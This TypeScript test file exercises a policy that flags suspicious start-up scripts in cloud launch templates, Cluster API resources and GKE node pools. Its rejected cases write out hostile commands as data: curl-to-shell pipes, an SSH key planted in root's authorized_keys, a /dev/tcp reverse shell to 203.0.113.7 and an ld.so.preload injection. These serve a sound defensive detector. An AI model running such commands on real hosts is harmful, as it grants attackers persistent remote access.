import type { Value } from "../../lib/model/value";
import { noSuspiciousUserData } from "../../policies/persistence/no-suspicious-user-data";
import { object, resource, UNKNOWN } from "../support/builders";
import { LAUNCH_TEMPLATE, launchTemplate } from "../support/clouds";
import { testPolicy } from "../support/policy-table";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const template = (...lines: string[]) => launchTemplate({ userData: base64(lines.join("\n")) });
const cluster = (preKubeadmCommands: Value) =>
  object("controlplane.cluster.x-k8s.io/v1beta1", "KubeadmControlPlane", "prod", {
    spec: { kubeadmConfigSpec: { preKubeadmCommands } },
  });
const MIME = [
  "MIME-Version: 1.0",
  'Content-Type: multipart/mixed; boundary="//"',
  "",
  "--//",
  "Content-Type: text/x-shellscript",
  "",
];

testPolicy(noSuspiciousUserData, {
  accepts: {
    "a script that joins a cluster": template("#!/bin/bash", "/etc/eks/bootstrap.sh prod"),
    "a script that prepares the kernel": template(
      "#!/bin/bash",
      "modprobe br_netfilter",
      "sysctl -w kernel.panic=10",
    ),
    "a configuration of nodeadm": template("apiVersion: node.eks.aws/v1alpha1", "kind: NodeConfig"),
    "a download that is checked": template(
      "#!/bin/bash",
      "curl -fsSLo /tmp/agent https://example.com/agent",
      "echo 'd2b2... /tmp/agent' | sha256sum -c",
    ),
    "commands of Cluster API": cluster(["systemctl restart containerd"]),
  },
  rejects: {
    "a download for a shell": {
      given: template("#!/bin/bash", "curl -s https://example.com/setup.sh | bash"),
      says: `${LAUNCH_TEMPLATE} must not pipe a download into an interpreter (userData)`,
    },
    "a key of somebody": {
      given: template("#cloud-config", "runcmd:", "- echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
      says: `${LAUNCH_TEMPLATE} must not let a further key in (userData)`,
    },
    "a reverse shell in a part of a message": {
      given: template(...MIME, "#!/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "--//--"),
      says: `${LAUNCH_TEMPLATE} must not open a reverse shell (userData)`,
    },
    "code in every program": {
      given: cluster(["echo /usr/lib/a.so > /etc/ld.so.preload"]),
      says: 'KubeadmControlPlane "prod" must not load code into every program (spec.kubeadmConfigSpec.preKubeadmCommands[0])',
    },
    "a file of Cluster API": {
      given: object("bootstrap.cluster.x-k8s.io/v1beta1", "KubeadmConfigTemplate", "workers", {
        spec: {
          template: {
            spec: {
              files: [{ path: "/opt/setup.sh", content: "#!/bin/sh\ncurl -s https://example.com/a | sh\n" }],
            },
          },
        },
      }),
      says: 'KubeadmConfigTemplate "workers" must not pipe a download into an interpreter (spec.template.spec.files[0].content)',
    },
    "a start-up script of GKE": {
      given: resource("gcp:container/nodePool:NodePool", "prod", {
        nodeConfig: { metadata: { "startup-script": "#!/bin/sh\nwget -qO- https://example.com/a | sh" } },
      }),
      says: 'gcp:container/nodePool:NodePool "prod" must not pipe a download into an interpreter (nodeConfig.metadata.startup-script)',
    },
  },
  undecided: {
    "user data of nodes that names the cluster": launchTemplate({ userData: UNKNOWN }),
    "commands from an output": cluster(UNKNOWN),
  },
});
